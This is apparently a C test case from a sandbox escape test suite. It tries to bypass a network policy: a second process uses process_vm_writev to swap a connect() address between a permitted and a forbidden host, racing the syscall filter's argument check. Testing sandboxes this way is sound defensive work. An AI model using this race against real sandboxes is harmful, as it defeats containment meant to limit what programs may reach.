// escape: another process writes the address by process_vm_writev
// group: argument races
// policy: network
// neighbour: connect_tcp --neighbour
// attempts: 10000
#include "escape.h"

static struct sockaddr_in address;

static void attack(void) {
  struct sockaddr_in first = the_friend(), second = stranger();
  address = first;
  prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
  const pid_t caller = getpid();
  if (beside()) {
    struct iovec to = {&address, sizeof address};
    struct iovec from[] = {{&second, sizeof second}, {&first, sizeof first}};
    for (int i = 0;; i = !i) process_vm_writev(caller, &from[i], 1, &to, 1, 0);
  }
  while (more()) {
    const int fd = tcp(AF_INET);
    connect(fd, ADDRESS(address));
    close(fd);
  }
}
